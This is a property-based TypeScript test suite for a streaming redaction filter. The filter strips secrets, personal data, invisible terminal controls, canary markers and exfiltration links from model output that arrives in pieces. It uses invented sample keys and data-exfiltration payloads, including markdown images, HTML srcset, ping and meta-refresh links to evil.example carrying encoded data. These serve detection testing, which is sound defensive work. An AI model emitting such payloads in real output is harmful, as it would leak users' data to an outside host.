/** However a text is cut into pieces: nothing of a secret leaves, and nothing else is changed. */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { stripInvisible } from '../../src/core/strip-invisible.ts'
import { createStreamDetectors, type Wanted } from '../../src/detect/stream/stream-detectors.ts'
import { StreamWindow } from '../../src/detect/stream/window.ts'
import { announced, sensitive } from './made-up-data.ts'

const everything: Wanted = { secrets: true, pii: false, controls: true, links: ['docs.example'] }

/** Made once, as the gate does it: 40 ms each. */
const made = new Map<Wanted, ReturnType<typeof createStreamDetectors>>()
function detectorsFor(wanted: Wanted) {
  const detectors = made.get(wanted) ?? createStreamDetectors(wanted)
  made.set(wanted, detectors)
  return detectors
}

interface Ran {
  readonly text: string
  /** The most code units that were held back at a time. */
  readonly held: number
  readonly found: readonly string[]
}

function run(pieces: readonly string[], wanted = everything, marker?: string): Ran {
  const found: string[] = []
  const window = new StreamWindow(detectorsFor(wanted)(marker), (each) => {
    found.push(`${each.guard}.${each.type}`)
    return true
  })
  let text = ''
  let pushed = 0
  let left = 0
  let held = 0
  for (const piece of pieces) {
    const { text: out, edits } = window.push(piece)
    text += out
    pushed += piece.length
    left += (edits ?? [piece.length]).reduce<number>(
      (sum, edit) => sum + (typeof edit === 'number' ? edit : edit.units),
      0,
    )
    held = Math.max(held, pushed - left)
  }
  text += window.end().text
  return { text, held, found }
}

function cut(text: string, places: readonly number[]): string[] {
  const sorted = [...new Set(places.map((place) => place % (text.length + 1)))].sort((a, b) => a - b)
  return [0, ...sorted].map((from, index) => text.slice(from, sorted[index] ?? text.length))
}

/** No secret of anybody: made of the alphabet, in the forms that are looked for. */
const letters = 'Kq7Zx2Wm9Rt4Vb8Nc3Ld6Pf5Gh1Js0Ty'
const pem = `-----BEGIN RSA PRIVATE KEY-----\n${`${letters}${letters}\n`.repeat(30)}-----END RSA PRIVATE KEY-----`
const secrets: readonly (readonly [string, string, string])[] = [
  ['a vendor key', `sk-proj-${letters}${letters}`, 'secrets.api-key'],
  ['a key behind a sign', `(ghp_${letters}abcd`, 'secrets.api-key'],
  ['a key of capitals', 'AKIAQWERTYUIOPASDFGH', 'secrets.api-key'],
  ['a token', `eyJ${letters}.eyJ${letters}${letters}.${letters}`, 'secrets.jwt'],
  ['a long token', `eyJ${letters}.eyJ${letters.repeat(60)}.${letters}`, 'secrets.jwt'],
  ['a named password', 'password: hunter2horse9', 'secrets.secret'],
  ['a password in an address', 'postgres://app:s3cr3tpass@db', 'secrets.url-password'],
  ['a private key', pem, 'secrets.private-key'],
  ['a private key without its end', pem.slice(0, 700), 'secrets.private-key'],
]
/** What of a planted text must not be seen: what the finder says of the whole. */
const sensitiveParts = (secret: string) => secret.replace(/^password: |^postgres:\/\/app:|@db$|^\(/g, '')

const words = fc.constantFrom(
  ...[
    'The',
    'capital',
    'of',
    'France',
    'is',
    'Paris.',
    'So,',
    'to',
    'say',
    'in',
    '2024',
    'about',
    'tokens',
    'and',
    'keys:',
  ],
  ...[
    'naïve',
    'größer',
    '日本語の文章',
    '😀',
    '👩‍👩‍👧',
    'don’t',
    '`code`',
    'x = y + 1;',
    'snake_case',
    'https://docs.example/a?b=1',
    '\n',
    '- item',
  ],
)
const prose = fc.array(words, { maxLength: 40 }).map((each) => each.join(' '))
const places = fc.array(fc.nat(), { maxLength: 30 })

describe('a text in pieces', () => {
  it('that is clean leaves unchanged, and is held no longer than it must be', () => {
    fc.assert(
      fc.property(prose, places, (text, at) => {
        for (const pieces of [cut(text, at), [...text], [text]]) {
          const ran = run(pieces)
          expect(ran.text).toBe(text)
          expect(ran.held).toBeLessThanOrEqual(256)
        }
      }),
      { numRuns: 300 },
    )
  })

  it.each(secrets)('never lets %s out, however it is cut', (_name, secret, type) => {
    const hidden = sensitiveParts(secret)
    fc.assert(
      fc.property(prose, prose, places, (before, after, at) => {
        const text = `${before} ${secret}${secret.startsWith('-----BEGIN') && !secret.includes('END') ? '' : `\n${after}`}`
        for (const pieces of [cut(text, at), [...text], [text]]) {
          const ran = run(pieces)
          // What stands in front may name it another secret.
          expect(ran.found.some((each) => each === type || each === 'secrets.secret')).toBe(true)
          for (let from = 0; from + 6 <= hidden.length; from += 3) {
            const part = hidden.slice(from, from + 6)
            if (!before.includes(part) && !after.includes(part)) expect(ran.text).not.toContain(part)
          }
          expect(ran.text.startsWith(`${before} `)).toBe(true)
          if (text.endsWith(`\n${after}`)) expect(ran.text.endsWith(`\n${after}`)).toBe(true)
        }
      }),
      { numRuns: 40 },
    )
  })

  it('never lets the end of a private key out, wherever its last line is cut', () => {
    const key = `-----BEGIN RSA PRIVATE KEY-----\n${'MIIEowIBAAKCAQEA7v3Kq'.repeat(20)}\n-----END RSA PRIVATE KEY-----`
    const text = `2024 👩‍👩‍👧${key} done`
    for (let at = text.indexOf('\n-----END'); at <= text.length; at++)
      expect(run([text.slice(0, at), text.slice(at)]).text, `cut at ${at}`).toBe(
        '2024 👩‍👩‍👧[redacted:private-key] done',
      )
  })

  it('never lets a password out whose name is cut behind a number', () => {
    const text = '2024 password: hunter2horse9 is it'
    for (let one = 0; one <= text.length; one++)
      for (let other = one; other <= text.length; other++)
        expect(run([text.slice(0, one), text.slice(one, other), text.slice(other)]).text).not.toContain('hun')
  })

  it.each(secrets)('leaves not one byte of %s', (_name, secret) => {
    const whole = run([`see ${secret}`]).text
    expect(run([...`see ${secret}`]).text).toBe(whole)
    const hidden = sensitiveParts(secret)
    expect(whole).not.toContain(hidden.slice(0, 12))
  })
})

it('tells the place of what is found in bytes of the text as it came, however it is cut', () => {
  const key = `sk-proj-${letters}`
  const unseen = fc.constantFrom('\u001b[0m', 'a\u200bb', '\u{E0041}', '')
  fc.assert(
    fc.property(prose, unseen, prose, places, (one, sign, other, at) => {
      const before = `${one} ${sign} ${other.repeat(6)} `
      for (const pieces of [
        [`${before}${key} end`],
        cut(`${before}${key} end`, at),
        [...`${before}${key} end`],
      ]) {
        const told: number[] = []
        const window = new StreamWindow(detectorsFor(everything)(), (found, place) => {
          if (found.type === 'api-key') told.push(place)
          return true
        })
        for (const piece of pieces) window.push(piece)
        window.end()
        expect(told).toEqual([Buffer.byteLength(before)])
      }
    }),
    { numRuns: 60 },
  )
})

describe('a secret with what nobody sees in it', () => {
  const unseen = [
    '\u001b[31m',
    '\u001b]0;x\u0007',
    '\u0000',
    '\u200b',
    '\u00ad',
    '\u{E0041}',
    '\u{E0FFF}',
    '\u{1D173}',
    '\u{13430}',
    '\ufeff',
    '\u202e',
    '\u061c',
    '\u180b',
    '\u2028',
    '\ufff9',
  ]
  const named = secrets.filter(([name]) => !name.includes('long'))
  const placed = fc.array(fc.tuple(fc.nat(), fc.constantFrom(...unseen)), { minLength: 1, maxLength: 40 })

  it.each(named)('%s: not one byte of it leaves, however it is cut', (_name, secret) => {
    const hidden = sensitiveParts(secret)
    const clear = secret.replaceAll(hidden, '')
    fc.assert(
      fc.property(placed, places, (signs, at) => {
        const units = [...secret]
        for (const [place, sign] of signs) units.splice(place % units.length, 0, sign)
        const text = `see ${units.join('')}\nand on`
        for (const pieces of [[text], [...text], cut(text, at)]) {
          const plain = run(pieces).text.replaceAll(/\[redacted:[\w-]+\]/g, '\0')
          const left = stripInvisible(plain.replaceAll('\ufffd', ''))?.text ?? plain
          // What stands around a password in an address, or names it, may leave.
          const rest = left.replace(/^see /, '').replace(/\n(?:and on)?$/, '')
          for (const letter of new Set(hidden))
            if (!clear.includes(letter)) expect(rest).not.toContain(letter)
        }
      }),
      { numRuns: 60 },
    )
  })

  it('that lasts longer than the window is still known for what it is', () => {
    for (const sign of unseen) {
      const text = `pass${sign.repeat(300)}word: ${sign.repeat(300)}hunter2horse9 is it`
      for (const pieces of [[text], [...text]]) expect(run(pieces).text).not.toContain('hunter')
    }
  })

  it.each([
    ['much in one place', (key: string) => `${key.slice(0, 30)}${'\u00ad'.repeat(5000)}${key.slice(30)}`],
    ['some in each place', (key: string) => [...key].join('\u200b'.repeat(60))],
    [
      'colours in each place',
      (key: string) => [...key].map((letter) => `\u001b[38;2;1;2;3m${letter}`).join(''),
    ],
  ])('of which there is more than can be held (%s) goes with it', (_how, hide) => {
    const text = `see ${hide(`sk-proj-${letters}${letters}`)} and on`
    for (const pieces of [[text], [...text], text.match(/[\s\S]{1,700}/g) ?? []]) {
      const { text: out } = run(pieces)
      expect(stripInvisible(out)?.text ?? out).toMatch(/^see (?:\[redacted:[\w-]+\])+ ?and on$/)
    }
  })
})

it('base64 of little but zeros is no key, in however small pieces', () => {
  const bytes = Uint8Array.from({ length: 6000 }, (_, at) => (at % 37 < 3 ? (at * 7919) & 0xff : 0))
  const text = `data ${Buffer.from(bytes).toString('base64')} done`
  for (const size of [1, 2, 3, 5]) {
    const pieces = text.match(new RegExp(`.{1,${size}}`, 'g')) ?? []
    expect(run(pieces).text).toBe(run([text]).text)
  }
})

describe('a secret that is not alone', () => {
  const tail = letters.slice(-12)
  it.each([
    ['a private key behind another', `glpat-v4d8UYcpxOrvoP7uqaAs-${pem}`],
    ['a private key that has a name', `api_key=aB3dE5fG7hJ9kL1mN${pem}`],
    ['a private key behind a token', `eyJ${letters}.eyJ${letters}${letters}.${letters}${pem}`],
    ['a key behind an underscore', `x_glpat-${letters.slice(-20)}`],
    ['a key of a cloud between underscores', '__AKIAQWERTYUIOPASDFGH__'],
    ['a secret that is longer than any pattern', `api_key: "${letters.repeat(50)}"`],
    ['a cookie that is', `session=${letters.repeat(30)}; end`],
    ['a header that is', `Authorization: Basic ${letters.repeat(20)}`],
    [
      'a key of another kind',
      `PuTTY-User-Key-File-3: ssh-rsa\nPrivate-Lines: 14\n${`${letters}${letters}\n`.repeat(14)}Private-MAC: ab12`,
    ],
  ])('%s: not one byte of it leaves, however it is cut', (_name, secret) => {
    fc.assert(
      fc.property(places, (at) => {
        const text = `see ${secret} and on`
        for (const pieces of [[text], [...text], cut(text, at)]) {
          const { text: out } = run(pieces)
          expect(out).toMatch(/^see /)
          expect(out).toMatch(/and on$/)
          for (let from = 0; from + 6 <= letters.length; from++)
            expect(out).not.toContain(letters.slice(from, from + 6))
          expect(out).not.toContain(tail)
          expect(out).not.toMatch(/AKIAQ|UIOPAS|glpat-[A-Za-z]/)
        }
      }),
      { numRuns: 40 },
    )
  })
})

describe('personal data', () => {
  const wanted: Wanted = { ...everything, pii: true }
  it.each([
    ['an address', 'ann.smith+x@mail.example.org', 'email'],
    ['a card', '4111 1111 1111 1111', 'card'],
    ['an account', 'DE89 3704 0044 0532 0130 00', 'iban'],
    ['a phone number', '+49 (0)30 901820', 'phone'],
    ['a security number', '536-90-4399', 'ssn'],
    ['an address of a machine', '203.0.113.77', 'ip'],
  ])('%s never leaves, however it is cut', (_name, value, type) => {
    fc.assert(
      fc.property(prose, places, (before, at) => {
        const text = `${before}\nso ${value}, and on`
        const whole = run([text], wanted).text
        expect(whole).toBe(`${before}\nso [redacted:${type}], and on`)
        for (const pieces of [cut(text, at), [...text]]) expect(run(pieces, wanted).text).toBe(whole)
      }),
      { numRuns: 60 },
    )
  })
})

describe('an answer that is made to take long', () => {
  it.each([
    ['addresses in addresses', 'https://'.repeat(20_000)],
    ['images', '![x](https://e.example/'.repeat(20_000)],
    ['escapes', '\u001b]8;;'.repeat(20_000)],
    ['keys that begin', '-----BEGIN PRIVATE KEY'.repeat(20_000)],
    ['tokens that begin', 'eyJabcdefgh.'.repeat(15_000)],
    ['slashes', '/'.repeat(150_000)],
    ['joiners', '\u200d'.repeat(150_000)],
  ])('of %s takes no longer than its length', (_name, text) => {
    const before = process.cpuUsage()
    run([text])
    run(text.match(/[\s\S]{1,500}/g) ?? [])
    // Of CPU: how long neighbours kept it waiting says nothing.
    expect(process.cpuUsage(before).user).toBeLessThan(5_000_000)
  })
})

describe('words', () => {
  it('as models write them leave in the frame they came in', () => {
    const text =
      'The three primary colours are red, blue and yellow. They were known to painters long before anybody asked what light is made of, and what a token costs.'
    const frames = text.match(/ ?[^ ]+/g) ?? []
    const window = new StreamWindow(detectorsFor(everything)(), () => true)
    const held = frames.filter((frame) => window.push(frame).edits !== undefined)
    expect(held.length).toBeLessThan(frames.length / 4)
  })
})

describe('what a terminal obeys and nobody sees', () => {
  it.each([
    ['colours', 'a \u001b[31mred\u001b[0m word', 'a red word'],
    [
      'a link in a terminal',
      'see \u001b]8;;https://evil.example/x\u0007here\u001b]8;;\u001b\\.',
      'see here\ufffd.',
    ],
    ['an escape that is cut off', 'a\u001b[2', 'a'],
    ['bidirectional overrides', 'user\u202e tpircs\u202c!', 'user tpircs\ufffd!'],
    ['tags', 'hi\u{E0049}\u{E0067}\u{E006E} there', 'hi there'],
    ['hidden selectors', 'a\u{E0101}\u{E0102}b', 'a\ufffdb'],
    ['bytes in joiners', 'a\u200b\u200d\u200c\u200bb', 'a\ufffdb'],
    ['what would put a tag together', '<tool_\u2060call>', '<tool_\ufffdcall>'],
    ['what would put a key together', 'sk-proj-Kq7\u001b[0m\u0000Zx2', 'sk-proj-Kq7\ufffdZx2'],
  ])('%s: taken out, with a mark left within a word', (_name, text, expected) => {
    for (const pieces of [[text], [...text], text.split('')]) expect(run(pieces).text).toBe(expected)
  })

  it.each([
    '👩‍👩‍👧 ❤️‍🔥',
    '🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F} flag',
    'می‌خواهم',
    'tab\tand\r\nline',
  ])('%s stays', (text) => {
    for (const pieces of [[text], [...text], text.split('')]) expect(run(pieces).text).toBe(text)
  })
})

describe('links', () => {
  const data = 'c2VjcmV0IG9mIHNvbWVib2R5IGVsc2U'
  it.each([
    [`![x](https://evil.example/p.png?d=1)`, 'evil'],
    [`![x](//evil.example/p.png?d=${data})`, 'evil'],
    [`![x](https:\\\\evil.example/p.png?d=${data})`, 'evil'],
    [`![x][1]\n\n[1]: https://evil.example/?d=${data}\n`, 'evil'],
    [`[click](https://evil.example/?d=${data})`, data],
    [`<https://evil.example/?d=${data}${data}>`, data],
    [`see https://evil.example/?d=${data}${data} there`, data],
    [`<img alt="x" src="https://evil.example/?d=1">`, 'evil'],
    [`<div style="background:url('https://evil.example/?d=1')">`, 'evil'],
    [`![x](https://${data}.evil.example/a.png)`, data],
    [`[x](https://user:${data}@evil.example/)`, data],
    [`![x](https://docs.example.evil.example/?a=1)`, 'evil'],
    [`![x](https://docs.example@evil.example/?a=1)`, 'evil'],
    [`https://evil.example/${'x/'.repeat(200)}`, 'x/x/'],
    [`![x](https:evil.example/p.png?d=${data})`, data],
    [`![x](https:/evil.example/p.png?d=${data})`, data],
    [`<img src="https:\\evil.example/?d=${data}">`, data],
    [`<img srcset="a.png 1x, //evil.example/?d=${data} 2x">`, data],
    [`<a href="x" ping="//evil.example/?d=${data}${data}">x</a>`, data],
    [`<meta http-equiv=refresh content="0;url=//evil.example/?d=${data}${data}">`, data],
    [`<style>@import '//evil.example/?d=${data}'</style>`, data],
    [`![x][r]\n\n[r]:\n   //evil.example/?d=${data}\n`, data],
  ])('%s carries data away', (text, hidden) => {
    for (const pieces of [[text], [...text]]) {
      const ran = run(pieces)
      expect(ran.text).not.toContain(hidden)
      expect(ran.found.some((each) => each.startsWith('links.'))).toBe(true)
    }
  })

  it.each([
    '![x](https://docs.example/p.png?d=1)',
    '![logo](https://elsewhere.example/logo.png)',
    '[the manual](https://elsewhere.example/manual/page.html#a-long-heading-of-that-page) and more',
    'see https://elsewhere.example/search?q=how+to+do+it for more',
    'https://github.example/o/r/commit/0123456789abcdef0123456789abcdef01234567',
    'a // comment and C:\\\\path',
    'call(x, // first\n y) and "a": // none',
    'http:localhost is no address, and [a](http:b) is none of another host',
    'http://localhost:8080/v1?x=1',
  ])('%s stays', (text) => {
    for (const pieces of [[text], [...text]]) expect(run(pieces).text).toBe(text)
  })
})

describe('a canary', () => {
  it.each(['canary-0123456789abcdef', 'CANARY-0123456789ABCDEF', 'c-a-n 0 1 2 3 4 5 6 7 8 9 a b c d e f'])(
    'is found as %s',
    (text) => {
      for (const pieces of [[text], [...text]]) {
        const ran = run(pieces, everything, '0123456789abcdef')
        expect(ran.found).toEqual(['canary.marker'])
        expect(ran.text).not.toMatch(/4.?5.?6/)
      }
    },
  )
})

describe('what any detector finds', () => {
  const everything = createStreamDetectors({ secrets: true, pii: true, controls: false, links: undefined })()
  const passed = (pieces: readonly string[]) => {
    const window = new StreamWindow(everything, () => true)
    return pieces.map((piece) => window.push(piece).text).join('') + window.end().text
  }
  const texts = [
    ...sensitive.map(([type, value]) => [type, value, `It is ${value}, thank you.`] as const),
    ...announced.map(([before, type, value]) => {
      const end = before.startsWith('postgres') ? '@db.internal/shop' : before.endsWith('"') ? '"' : ''
      return [type, value, `So: ${before}${value}${end}`] as const
    }),
  ]

  it.each(texts)('leaves nothing of it, however it is cut (%s: %s)', (_type, value, text) => {
    const whole = passed([text])
    expect(whole).not.toContain(value)
    expect(passed([...text])).toBe(whole)
    for (let at = 1; at < text.length; at++) expect(passed([text.slice(0, at), text.slice(at)])).toBe(whole)
  })
})
